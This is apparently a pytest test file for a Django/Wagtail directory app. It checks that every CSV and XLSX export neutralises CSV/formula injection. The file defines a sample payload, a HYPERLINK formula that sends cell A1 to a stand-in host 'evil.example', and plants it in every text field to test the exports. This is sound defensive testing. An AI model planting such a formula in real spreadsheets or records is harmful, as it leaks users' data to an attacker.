"""Every CSV and XLSX Waymark writes, with a formula in every text field: no live formula out.

Problem reports and feedback come from the public, and staff type service names; any of them
may read ``=HYPERLINK(...)``. The export URLs are found by walking the URL resolver (every
Wagtail listing or report view with spreadsheet export) plus the project's own download URLs,
so a new export is checked without anyone remembering to add it here.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from directory.exchange.cells import FORMULA_PREFIXES, neutralise
from directory.exchange.resources import RESOURCES
from directory.models import LocalOfferFeedback, ProblemReport
from mapping.models import InvestmentLine, PartnerOrganisation, Partnership, WorkforceLine
from mapping.reports.registry import REPORTS
from search.models import SearchLog
from tests.factories import (
    LocalAuthorityFactory,
    LocationFactory,
    OrganisationFactory,
    ServiceFactory,
    UserFactory,
)
from tests.mapping.reports_data import cycle, mapped

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TEXT_FIELDS = (models.CharField, models.TextField)


def poison(instance: models.Model) -> models.Model:
    """Put the payload (with a field-specific tail, to stay unique) in every free-text field."""
    for field in instance._meta.concrete_fields:
        if (
            not isinstance(field, TEXT_FIELDS)
            or field.choices
            or isinstance(field, models.SlugField)
        ):
            continue
        if field.name in {"slug", "la_reference", "source_id", "code", "postcode"}:
            continue
        value = f"{PAYLOAD}{field.name}"
        setattr(instance, field.attname, value[: field.max_length] if field.max_length else value)
    instance.save()
    return instance


@pytest.fixture
def poisoned_world():
    la = LocalAuthorityFactory(code="E06000035", name="Medway", slug="medway")
    admin = UserFactory(is_superuser=True, is_staff=True)
    organisation = poison(OrganisationFactory(local_authority=la))
    location = poison(LocationFactory(local_authority=la))
    service = poison(
        ServiceFactory(local_authority=la, organisation=organisation, locations=[location])
    )
    poison(ProblemReport(service=service, local_authority=la, kind="closed"))
    poison(LocalOfferFeedback(local_authority=la, about=LocalOfferFeedback.About.choices[0][0]))
    poison(SearchLog(local_authority=la, result_count=0))
    for action in ("wagtail.create", "wagtail.edit", "wagtail.publish"):
        log(instance=service, action=action, user=admin)
    partnership = poison(Partnership(local_authority=la, slug="medway-trust"))
    poison(PartnerOrganisation(partnership=partnership, kind="voluntary"))
    now = cycle("2009/10")
    mapping_return = mapped(la, now, "universal", service=service)
    poison(
        InvestmentLine(
            mapping_return=mapping_return,
            expenditure_type="other",
            basis="actual",
            capital_or_revenue="revenue",
            amount=Decimal("-1234.50"),
        )
    )
    poison(
        WorkforceLine(
            mapping_return=mapping_return, group="youth", fte=Decimal("1.5"), cost=Decimal("9")
        )
    )
    return {"la": la, "admin": admin, "cycle": now, "service": service}


def _walk(patterns, namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}:{pattern.namespace}" if pattern.namespace else namespace
            yield from _walk(pattern.url_patterns, inner.strip(":"))
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield namespace, pattern


def wagtail_export_urls() -> list[str]:
    """Every URL served by a Wagtail view that can export a spreadsheet (no URL arguments)."""
    urls = set()
    for namespace, pattern in _walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        if pattern.pattern.converters or pattern.name.endswith("_results"):
            continue
        name = f"{namespace}:{pattern.name}" if namespace else pattern.name
        for fmt in ("csv", "xlsx"):
            urls.add(f"{reverse(name)}?export={fmt}")
    return sorted(urls)


def project_download_urls(world) -> list[str]:
    la, now = world["la"], world["cycle"]
    urls = [
        reverse("directory_exchange:export", args=(kind, fmt)) + f"?la={la.pk}"
        for kind in RESOURCES
        for fmt in ("csv", "xlsx")
    ]
    urls += [
        reverse("mapping:export", args=(la.slug, now.pk, kind))
        for kind in ("investment", "workforce", "returns")
    ]
    scope = f"la={la.code}&cycle={now.label}&basis=actual"
    for fmt in ("csv", "xlsx"):
        for slug in REPORTS:
            area = "partnership=medway-trust" if slug == "trust-profile" else f"la={la.code}"
            urls.append(f"/mapping/reports/{slug}/?{area}&cycle={now.label}&format={fmt}")
        urls.append(f"/mapping/reports/trends/?la={la.code}&basis=actual&format={fmt}")
        urls.append(f"/mapping/reports/benchmarking/?{scope}&format={fmt}")
    return urls


def cells_of(response) -> list[tuple[str, object]]:
    """(kind, value) for every cell; kind is the XLSX data type, or "s" for CSV text. A zip
    (a report downloaded whole) is read file by file."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return _cells(response["Content-Type"], body)


def _cells(content_type: str, body: bytes) -> list[tuple[str, object]]:
    if "zip" in content_type:
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return [
                cell
                for name in archive.namelist()
                for cell in _cells(
                    "spreadsheetml" if name.endswith(".xlsx") else "text/csv", archive.read(name)
                )
            ]
    if "spreadsheetml" in content_type:
        workbook = openpyxl.load_workbook(io.BytesIO(body))
        return [
            (cell.data_type, cell.value)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    text = body.decode("utf-8-sig")
    return [("s", value) for row in csv.reader(io.StringIO(text)) for value in row]


def is_number(text: str) -> bool:
    """A CSV cell holding a plain (possibly negative) number, which no program runs."""
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.strip() == text and text.lower().lstrip("+-") not in {"nan", "inf", "infinity"}


def assert_no_live_formula(url: str, response) -> list:
    assert response.status_code == 200, f"{url}: {response.status_code}"
    assert "attachment" in response.get("Content-Disposition", ""), url
    try:
        cells = cells_of(response)
    except Exception as error:  # say which download could not be read
        raise AssertionError(f"{url}: unreadable download ({error})") from error
    for kind, value in cells:
        assert kind != "f", f"{url}: formula cell {value!r}"
        if isinstance(value, str) and not is_number(value):
            assert not value.startswith(FORMULA_PREFIXES), f"{url}: {value!r}"
    return cells


def test_the_walk_finds_the_wagtail_exports():
    urls = wagtail_export_urls()
    for expected in (
        "/admin/snippets/directory/service/?export=csv",
        "/admin/snippets/directory/problemreport/?export=xlsx",
        "/admin/reports/site-history/?export=csv",
        "/admin/reports/search-terms/?export=csv",
    ):
        assert expected in urls


def test_every_export_neutralises_every_formula(client, poisoned_world):
    client.force_login(poisoned_world["admin"])
    neutralised = neutralise(PAYLOAD)
    carrying_payload = set()
    urls = wagtail_export_urls() + project_download_urls(poisoned_world)
    for url in urls:
        response = client.get(url)
        if url in wagtail_export_urls() and "attachment" not in response.get(
            "Content-Disposition", ""
        ):
            continue  # a Wagtail listing with nothing to export answers with its HTML page
        cells = assert_no_live_formula(url, response)
        if any(isinstance(v, str) and v.startswith(neutralised) for _, v in cells):
            carrying_payload.add(url.split("?")[0] + url.split("format=")[-1][-4:])
    # The test means something only if the payload really reached the exports that hold text.
    must_carry = [
        "/admin/snippets/directory/service/",
        "/admin/snippets/directory/organisation/",
        "/admin/snippets/directory/location/",
        "/admin/snippets/directory/problemreport/",
        "/admin/reports/site-history/",
        "/admin/reports/search-terms/",
        "/admin/exchange/export/services.csv",
        "/mapping/la/medway/cycles/",
    ]
    carried = " ".join(sorted(carrying_payload))
    for prefix in must_carry:
        assert prefix in carried, f"payload never reached {prefix}: {carried}"
    assert any("/mapping/reports/" in url for url in carrying_payload), carried


def test_neutralised_values_read_back_unchanged():
    from directory.exchange.cells import restore

    for value in (PAYLOAD, "+44 1632 960000", "-5", "@home", "\t=1", "\uff1dSUM(1)", "plain"):
        assert restore(neutralise(value)) == value.strip()
    assert neutralise(neutralise(PAYLOAD)) == neutralise(PAYLOAD)
    assert neutralise(Decimal("-5")) == Decimal("-5")
